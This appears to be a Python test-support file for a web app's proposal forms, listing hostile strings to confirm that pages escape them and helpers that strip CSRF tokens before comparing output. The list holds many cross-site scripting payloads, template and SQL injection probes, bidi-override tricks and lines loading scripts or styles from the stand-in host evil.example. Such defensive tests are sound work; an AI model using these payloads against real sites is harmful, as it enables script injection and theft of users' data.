"""Texts that would run, load or break something if a page let them through as they are."""

from __future__ import annotations

import re

from markupsafe import escape

from pbapp.forms import without_controls
from pbapp.proposals.fields import one_line

_RUN = "alert(1)"

HOSTILE: tuple[str, ...] = (
    f"<script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style></script><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<script/src=data:,{_RUN}>",
    f"<script x>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x:x onerror='{_RUN}'",
    f"<img/src/onerror={_RUN}>",
    f"<image src=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg/onload={_RUN}//",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<math><mi xlink:href='javascript:{_RUN}'>x</mi></math>",
    f"<body onload={_RUN}>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<object data=javascript:{_RUN}>",
    f"<embed src=javascript:{_RUN}>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href='java&Tab;script:{_RUN}'>x</a>",
    f"<a href='&#106;avascript:{_RUN}'>x</a>",
    f"<form action=javascript:{_RUN}><button>x</button></form>",
    f"<button formaction=javascript:{_RUN}>x</button>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    f'" onmouseover="{_RUN}',
    f"' onmouseover='{_RUN}",
    f"` onmouseover=`{_RUN}",
    f'x" autofocus onfocus={_RUN} x="',
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s {0} {title}",
    f"<!--<img src='--><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    "\u202e<b>gnp.exe</b>\u202c \u2066<i>x</i>\u2069",
    "http://evil.example/ www.evil.example mailto:x@evil.example",
    "Robert'); DROP TABLE proposal;--",
)


def kept(text: str) -> str:
    """A hostile text as a field for one line stores it."""
    return without_controls(one_line(text))


def without(html: str, text: str) -> str:
    """A page with the escaped text cut out, and what differs between two answers anyway.

    Equal for a hostile text and a plain one only if the hostile one is nothing but text.
    """
    html = re.sub(r'name="(csrf_token|form_key)" type="hidden" value="[^"]*"', "", html)
    html = re.sub(r'name="csrf_token" value="[^"]*"', "", html)
    html = re.sub(r'id="(csrf_token|form_key)" ', "", html)
    return html.replace(str(escape(text)), "")
